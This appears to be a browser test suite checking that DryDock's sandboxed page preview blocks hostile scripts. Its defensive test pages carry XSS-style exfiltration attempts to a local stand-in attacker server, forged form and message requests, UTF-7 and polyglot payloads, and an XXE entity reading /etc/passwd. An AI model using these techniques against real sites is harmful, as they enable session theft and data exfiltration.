// Staged pages that attack: what a page's script can do in the preview, in a real browser, and that nothing comes of it.
// Seen from three sides: the browser (requests, windows, dialogs, downloads), DryDock (its log, its records), and a
// collector, a stranger's server to which everything that is learned would be sent.
import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { login, openPage, startBrowser, startServer } from "./lib/drydock.mjs";

let server, browser, stranger, stun, hits = [];
const listen = (s) => new Promise((done) => s.listen(0, "127.0.0.1", () => done(s.address().port)));
const bind = (s) => new Promise((done) => s.bind(0, "127.0.0.1", () => done(s.address().port)));
const page_of = (body) => `<!doctype html><meta charset="utf-8"><title>a page</title><body><p>the page is here</p>${body}`;

// Every attempt says what it got; "refused ..." is what it has to say. Runs in the preview, with the addresses filled in.
function attack(APP, EVIL, STUN) {
	const results = (window.results = {});
	const late = [];
	const attempt = (name, f) => {
		try {
			const r = f();
			if (r && r.then) late.push(r.then((x) => { results[name] = `GOT ${x}`; }, (e) => { results[name] = `refused ${e && e.name}`; }));
			else results[name] = r === undefined ? "refused silently" : `GOT ${r}`;
		} catch (e) { results[name] = `refused ${e.name}`; }
	};
	const element = (tag, attributes, on) => new Promise((got, refused) => {
		const e = Object.assign(document.createElement(tag), attributes);
		e[on ?? "onload"] = () => got(tag);
		e.onerror = () => refused(new Error("blocked"));
		document.body.append(e);
		setTimeout(() => refused(new Error("nothing")), 1500);
	});
	const form = (to, method, target) => {
		const f = Object.assign(document.createElement("form"), { action: to, method, target });
		f.innerHTML = "<input name=path value=/evil/attack.html><input name=op value=7f3e1b9a-1111-4222-8333-944445555666><input name=note value=evil>";
		document.body.append(f);
		f.submit();
	};
	// what is in the person's browser
	attempt("cookie", () => document.cookie);
	attempt("localStorage", () => localStorage.length);
	attempt("sessionStorage", () => sessionStorage.length);
	attempt("indexedDB", () => new Promise((got, refused) => { const r = indexedDB.open("x"); r.onsuccess = () => got("db"); r.onerror = () => refused(r.error); }));
	attempt("caches", () => caches.open("x"));
	attempt("clipboard", () => navigator.clipboard.readText());
	attempt("credentials", () => navigator.credentials.get({ password: true }).then((c) => c ? "a credential" : Promise.reject(new Error("none"))));
	attempt("geolocation", () => new Promise((got, refused) => navigator.geolocation.getCurrentPosition(got, (e) => refused({ name: e.message }))));
	attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }));
	// the application around it, and the other preview beside it
	attempt("parent", () => parent.document.title);
	attempt("top", () => top.document.cookie);
	attempt("parent's address", () => parent.location.href);
	attempt("sibling", () => [0, 1].map((i) => { try { return parent.frames[i] === window ? "" : parent.frames[i].document.body.textContent; } catch { return ""; } }).join("") || undefined);
	attempt("opener", () => window.opener ? "an opener" : undefined);
	attempt("frame element", () => window.frameElement ?? undefined);
	attempt("domain", () => { document.domain = "localhost"; return "set"; });
	// requests with the person's session
	for (const [name, at] of [["app", `${APP}/api/v1/whoami`], ["stranger", `${EVIL}/fetch`]]) {
		attempt(`fetch ${name}`, () => fetch(at, { credentials: "include" }));
		attempt(`fetch no-cors ${name}`, () => fetch(at, { credentials: "include", mode: "no-cors" }));
		attempt(`fetch keepalive ${name}`, () => fetch(at, { method: "POST", body: "x", keepalive: true, mode: "no-cors", credentials: "include" }));
		attempt(`xhr ${name}`, () => new Promise((got, refused) => { const x = new XMLHttpRequest(); x.withCredentials = true; x.open("GET", at); x.onload = () => got("xhr"); x.onerror = () => refused(new Error("x")); x.send(); }));
		attempt(`image ${name}`, () => element("img", { src: at }));
		attempt(`script ${name}`, () => element("script", { src: at }));
		attempt(`style ${name}`, () => element("link", { rel: "stylesheet", href: at }));
		attempt(`prefetch ${name}`, () => element("link", { rel: "prefetch", href: at }));
		attempt(`preload ${name}`, () => element("link", { rel: "preload", as: "image", href: at }));
		attempt(`modulepreload ${name}`, () => element("link", { rel: "modulepreload", href: at }));
		attempt(`object ${name}`, () => element("object", { data: at }));
		attempt(`embed ${name}`, () => element("embed", { src: at }));
		attempt(`video ${name}`, () => element("video", { src: at }, "onloadeddata"));
		attempt(`font ${name}`, () => new FontFace("x", `url(${at})`).load());
		attempt(`import ${name}`, () => import(at));
		for (const method of ["GET", "POST"]) for (const target of ["_self", "_blank", "_top"]) attempt(`form ${method} ${target} ${name}`, () => form(at, method, target));
	}
	attempt("beacon", () => { navigator.sendBeacon(`${APP}/api/v1/sites/www/sign`, "x"); navigator.sendBeacon(`${EVIL}/beacon`, "x"); });
	attempt("events", () => new Promise((got, refused) => { const e = new EventSource(`${APP}/s/www/events`, { withCredentials: true }); e.onopen = () => got("events"); e.onerror = () => refused(new Error("x")); }));
	attempt("websocket", () => new Promise((got, refused) => { const w = new WebSocket(EVIL.replace("http", "ws")); w.onopen = () => got("ws"); w.onerror = () => refused(new Error("x")); }));
	attempt("webtransport", () => new WebTransport(EVIL.replace("http:", "https:")).ready);
	attempt("webrtc", () => {
		const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:${STUN}` }, { urls: `turn:${STUN}`, username: "stolen", credential: "x" }] });
		c.createDataChannel("x");
		return c.createOffer().then((o) => c.setLocalDescription(o)).then(() => Promise.reject(new Error("what goes out is counted where it would come in")));
	});
	for (const rel of ["dns-prefetch", "preconnect", "prerender"]) attempt(rel, () => { element("link", { rel, href: EVIL }).catch(() => 0); });
	attempt("speculation rules", () => {
		document.body.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [`${EVIL}/speculation`, `${APP}/s/www/`], eagerness: "immediate" }],
			prerender: [{ source: "list", urls: [`${EVIL}/speculation`], eagerness: "immediate" }] }) }));
	});
	attempt("css", () => { document.body.append(Object.assign(document.createElement("style"), { textContent: `@import "${EVIL}/import"; body { background: url(${EVIL}/background), url(${APP}/api/v1/whoami) }` })); });
	// the application in a frame of the page
	attempt("frame the application", () => { document.body.append(Object.assign(document.createElement("iframe"), { src: `${APP}/s/www/`, name: "app" })); });
	attempt("frame the stranger", () => { document.body.append(Object.assign(document.createElement("iframe"), { src: `${EVIL}/frame` })); });
	attempt("frame about:blank, free of the policy?", () => {
		const f = document.createElement("iframe");
		f.srcdoc = `<script>fetch("${EVIL}/srcdoc", {mode: "no-cors"}); new Image().src = "${EVIL}/srcdoc-image"; parent.results["srcdoc cookie"] = (() => { try { return "GOT " + document.cookie; } catch (e) { return "refused " + e.name; } })()</` + "script>";
		document.body.append(f);
	});
	// workers
	attempt("service worker", () => navigator.serviceWorker.register("/worker.js"));
	attempt("worker", () => new Promise((got, refused) => { const w = new Worker("/worker.js"); w.onmessage = () => got("worker"); w.onerror = () => refused(new Error("x")); }));
	attempt("worker from a blob", () => new Promise((got, refused) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => got("worker"); w.onerror = () => refused(new Error("x")); }));
	attempt("shared worker", () => new Promise((got, refused) => { const w = new SharedWorker("/worker.js"); w.port.onmessage = () => got("worker"); w.onerror = () => refused(new Error("x")); }));
	attempt("worklet", () => CSS.paintWorklet.addModule("/worker.js"));
	// windows
	attempt("open", () => window.open(`${EVIL}/open`) ?? undefined);
	attempt("open the application", () => window.open(`${APP}/s/www/`, "app") ?? undefined);
	attempt("navigate top", () => { top.location = `${EVIL}/top`; });
	attempt("navigate parent", () => { parent.location.replace(`${EVIL}/parent`); });
	attempt("navigate top to script", () => { top.location = "javascript:alert(1)"; });
	for (const target of ["_top", "_parent", "_blank"]) attempt(`link ${target}`, () => { const a = Object.assign(document.createElement("a"), { href: `${EVIL}/link`, target }); document.body.append(a); a.click(); });
	attempt("link ping", () => { const a = Object.assign(document.createElement("a"), { href: "#x", ping: `${EVIL}/ping` }); document.body.append(a); a.click(); });
	attempt("download", () => { const a = Object.assign(document.createElement("a"), { href: "data:text/plain,x", download: "virus.exe" }); document.body.append(a); a.click(); });
	attempt("alert", () => { alert("owned"); });
	attempt("confirm", () => confirm("owned") || undefined);
	attempt("print", () => { print(); });
	attempt("fullscreen", () => document.documentElement.requestFullscreen());
	attempt("pointer lock", () => document.body.requestPointerLock());
	attempt("notify", () => Notification.requestPermission().then((p) => p === "granted" ? p : Promise.reject(new Error(p))));
	attempt("messages", () => { for (const to of [parent, top]) to.postMessage({ act: "sign", path: "/evil/attack.html", csrf: "" }, "*"); new BroadcastChannel("x").postMessage("x"); });
	attempt("name", () => { window.name = "stolen"; });
	return Promise.allSettled(late).then(() => { results.done = true; });
}

const SIGNED = {
	"/evil/utf7.html": "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
	"/evil/utf7-declared.html": "<meta charset=utf-7>+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
	"/evil/page.txt": "<!doctype html><script>window.ran=1</script>",
	"/evil/page.json": "<!doctype html><script>window.ran=1</script>",
	"/evil/page.jpg": "<!doctype html><script>window.ran=1</script>",
	"/evil/polyglot.gif": "GIF89a/*<script>window.ran=1</script>*/=1;window.ran=1",
	"/evil/page.css": "<!doctype html><script>window.ran=1</script>",
	"/evil/page.csv": "<!doctype html><script>window.ran=1</script>",
	"/evil/page": "<!doctype html><script>window.ran=1</script>",
	"/evil/page.unknown": "<!doctype html><script>window.ran=1</script>",
	"/evil/.htaccess": "AddType text/html .htaccess\n<script>window.ran=1</script>",
	"/evil/page.html.txt": "<!doctype html><script>window.ran=1</script>",
	"/evil/page.pdf": "%PDF-1.4\n<script>window.ran=1</script>",
	"/evil/page.mhtml": "MIME-Version: 1.0\nContent-Type: text/html\n\n<script>window.ran=1</script>",
	"/evil/page.swf": "FWS<script>window.ran=1</script>",
	"/evil/page.md": "<script>window.ran=1</script>",
};

before(async () => {
	stranger = createServer((request, answer) => {
		hits.push(`${request.method} ${request.url}`);
		answer.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" });
		answer.end("window.ran=1");
	});
	stun = createSocket("udp4");
	stun.on("message", () => hits.push("a packet of WebRTC"));
	stranger.on("upgrade", (request, socket) => { hits.push("a websocket"); socket.destroy(); });
	[stranger.port, stun.port] = await Promise.all([listen(stranger), bind(stun)]);
	[server, browser] = await Promise.all([startServer({ files: { "/index.html": page_of(""), "/worker.js": "postMessage(1)", ...SIGNED }, accounts: ["alice"] }), startBrowser()]);
});

after(async () => {
	await browser?.close();
	await server?.stop();
	stranger?.close();
	stranger?.closeAllConnections();
	stun?.close();
});

const EVIL = () => `http://127.0.0.1:${stranger.port}`;
const heads = () => server.api("GET", "/api/v1/sites/www/log?limit=1").then((l) => l.items[0]?.seq);
const script = (app) => `<script>(${attack})(${JSON.stringify(app)}, ${JSON.stringify(EVIL())}, ${JSON.stringify(`127.0.0.1:${stun.port}`)})</script>`;

// A page on which everything is noted that an attack could bring about.
async function watched() {
	const page = await openPage(browser);
	page.noted = [];
	page.on("request", (r) => { if (r.frame() !== page.mainFrame() && !/^(data|blob|about):|^http:\/\/[0-9a-f]{32}\.localhost:/.test(r.url())) page.asked.push(r.url()); });
	page.asked = [];
	page.context().on("page", (p) => page.noted.push(`a window: ${p.url()}`));
	page.on("download", (d) => page.noted.push(`a download: ${d.url()}`));
	page.on("framenavigated", (f) => { if (f === page.mainFrame() && !f.url().startsWith(server.url)) page.noted.push(`top went to ${f.url()}`); });
	page.on("worker", (w) => page.noted.push(`a worker: ${w.url()}`));
	page.context().on("serviceworker", (w) => page.noted.push(`a service worker: ${w.url()}`));
	await login(page, server);
	return page;
}

async function nothingCame(page, since, before_) {
	await page.waitForTimeout(700); // beacons and candidates go out late; what is awaited here is that nothing comes
	assert.deepEqual(hits, [], "nothing reached the stranger");
	assert.deepEqual(page.noted, []);
	assert.deepEqual(page.errors.filter((e) => /a dialog/.test(e)), []);
	assert.ok(page.url().startsWith(server.url), page.url());
	const log = (await server.do({ do: "log_since", at: since })).split("\n").filter((l) => /event=http\b.* from=127/.test(l));
	assert.ok(log.length > 0);
	assert.deepEqual(log.filter((l) => /method=(POST|PUT|DELETE)| target="?(\/api|\/logout|\/login|\/s\/www\/ |\/s\/www\/events)/.test(l)), [], "nothing asked DryDock");
	assert.equal(await heads(), before_, "no act was recorded");
	const cookies = await page.context().cookies(server.url);
	assert.equal(cookies.length, 1);
	const who = await page.evaluate(() => fetch("/api/v1/whoami").then((r) => r.status));
	assert.equal(who, 200, "still logged in");
}

for (const host of ["127.0.0.1", "localhost"])
	test(`a page whose script tries everything, against the application at ${host}`, async () => {
		hits = [];
		const app = server.url.replace("127.0.0.1", host);
		await server.write("/evil/attack.html", page_of(`<p>approved, ${host}</p>`));
		await server.api("POST", "/api/v1/sites/www/sign", { paths: ["/evil/attack.html"], as_staged: true });
		await server.write("/evil/attack.html", page_of(script(app)));
		const page = await watched();
		// beside the approved version, which is a preview of its own
		await page.goto(`${server.url}/s/www/file/evil/attack.html?view=preview`);
		const first = await heads(), since = await server.do({ do: "log_size" });
		await page.reload();
		await page.waitForFunction(() => document.querySelectorAll("iframe").length > 0);
		let frame;
		await assert.doesNotReject(async () => {
			for (let i = 0; i < 200 && !frame; i++) {
				for (const f of page.frames().slice(1)) if (await f.evaluate(() => window.results && window.results.done).catch(() => false)) frame = f;
				if (!frame) await page.waitForTimeout(100);
			}
		});
		assert.ok(frame, "the attack has run to its end: its scripts do run");
		const results = await frame.evaluate(() => window.results);
		assert.ok(Object.keys(results).length > 90, JSON.stringify(results));
		const got = Object.entries(results).filter(([k, v]) => k !== "done" && !v.startsWith("refused"));
		assert.deepEqual(got, []);
		await nothingCame(page, since, first);
		// what was framed shows nothing of the application
		for (const f of page.frames().slice(1)) assert.doesNotMatch(await f.evaluate(() => document.body.textContent).catch(() => ""), /Log out|Waiting for you|alice/);
		await page.context().close();
	});

const LEAD_AWAY = {
	"by script": () => `<script>location = "${EVIL()}/away?" + document.title</script>`,
	"by meta refresh": () => `<meta http-equiv="refresh" content="0; url=${EVIL()}/refresh">`,
	"by a link that is clicked": () => `<a id="a" href="${EVIL()}/click">a</a><script>document.getElementById("a").click()</script>`,
	"by a form without a policy of its own": () => `<form action="${EVIL()}/form"><input name="a"></form><script>document.forms[0].submit()</script>`,
	"by base": () => `<base href="${EVIL()}/"><img src="image.png"><script src="script.js"></script>`,
	"to the application": () => `<script>location = "${server.url}/s/www/"</script>`,
	"to the application's logout": () => `<script>location = "${server.url}/logout"</script>`,
};
test("a page that leads its frame away", async () => {
	const page = await watched();
	for (const [how, body] of Object.entries(LEAD_AWAY)) {
		hits = [];
		await server.write("/evil/away.html", page_of(body()));
		const first = await heads(), since = await server.do({ do: "log_size" });
		const shown = page.waitForResponse((r) => r.url().endsWith("/evil/away.html") && r.frame() !== page.mainFrame());
		await page.goto(`${server.url}/s/www/file/evil/away.html?view=preview`);
		assert.equal((await shown).status(), 200, how);
		await nothingCame(page, since, first);
		for (const f of page.frames().slice(1)) assert.doesNotMatch(await f.evaluate(() => document.body.textContent).catch(() => ""), /Log out|Waiting for you/, how);
	}
	await page.context().close();
});

test("as a window of its own a preview runs no script, so that it leads nowhere", async () => {
	hits = [];
	const page = await watched();
	await server.write("/evil/away.html", page_of(`${LEAD_AWAY["by script"]()}${LEAD_AWAY["by meta refresh"]()}<noscript>no script</noscript>`));
	await page.goto(`${server.url}/s/www/file/evil/away.html?view=preview`);
	const src = await page.locator("iframe").first().getAttribute("src");
	const alone = await page.context().newPage();
	await alone.goto(src);
	await alone.waitForTimeout(700);
	assert.equal(alone.url(), src);
	assert.match(await alone.locator("body").textContent(), /the page is here/);
	assert.deepEqual(hits, []);
	await page.context().close();
});

test("what is not HTML is not taken for HTML", async () => {
	hits = [];
	const page = await watched();
	await server.write("/evil/away.html", page_of(""));
	await server.api("POST", "/api/v1/sites/www/sign", { paths: Object.keys(SIGNED), as_staged: true });
	await page.goto(`${server.url}/s/www/file/evil/away.html?view=preview`);
	const origin = new URL(await page.locator("iframe").first().getAttribute("src")).origin;
	for (const [at, content] of Object.entries(SIGNED)) {
		const answered = page.waitForResponse((r) => r.url() === `${origin}${at}`);
		await page.evaluate((src) => { document.querySelector("iframe").src = src; }, `${origin}${at}`);
		const r = await answered;
		assert.equal(r.status(), 200, at);
		assert.equal(r.headers()["x-content-type-options"], "nosniff");
		// of a PDF the browser's own viewer takes over, and keeps only who may frame it
		assert.match(r.headers()["content-security-policy"], /pdf$/.test(at) ? /^(sandbox|frame-ancestors)/ : /^sandbox/);
		if (/\.html$/.test(at)) assert.equal(r.headers()["content-type"], "text/html; charset=utf-8");
		else assert.doesNotMatch(r.headers()["content-type"], /html|xml|javascript/, at);
		await page.waitForTimeout(150);
		for (const f of page.frames()) assert.equal(await f.evaluate(() => window.ran).catch(() => undefined), undefined, `${at}: ${content}`);
	}
	assert.deepEqual(hits, []);
	await page.context().close();
});

// SVG and XML are documents of their own kind: their scripts run in the sandbox, and get nothing either.
const DOCUMENTS = {
	"/evil/a.svg": (s) => `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.ran=1"><script><![CDATA[${s}]]></script><image href="${EVIL()}/image"/><use href="${EVIL()}/use#x"/>` +
		`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL()}/foreign"/></foreignObject></svg>`,
	"/evil/a.xhtml": (s) => `<html xmlns="http://www.w3.org/1999/xhtml"><body><script><![CDATA[${s}]]></script></body></html>`,
	"/evil/a.xml": (s) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${EVIL()}/a.xsl"?><!DOCTYPE a [<!ENTITY x SYSTEM "${EVIL()}/entity"><!ENTITY y SYSTEM "file:///etc/passwd">]>` +
		`<a><b xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[${s}]]></script></b>&amp;</a>`,
};
test("SVG, XHTML and XML with scripts and foreign parts", async () => {
	const page = await watched();
	const steal = `window.ran=1; window.got = []; for (const f of [() => document.cookie, () => parent.document.title, () => localStorage.length]) try { window.got.push(f()); } catch (e) {}; ` +
		`fetch("${EVIL()}/x", {mode: "no-cors"}).catch(() => 0); try { top.location = "${EVIL()}/top"; } catch (e) {}; location = "${EVIL()}/away";`;
	for (const [at, content] of Object.entries(DOCUMENTS)) {
		hits = [];
		await server.write(at, content(steal));
		const first = await heads(), since = await server.do({ do: "log_size" });
		await page.goto(`${server.url}/s/www/file${at}?view=preview`);
		for (const f of page.frames().slice(1)) assert.deepEqual((await f.evaluate(() => window.got).catch(() => [])) ?? [], []);
		await nothingCame(page, since, first);
		assert.doesNotMatch(await page.locator("body").textContent(), /root:/);
	}
	await page.context().close();
});
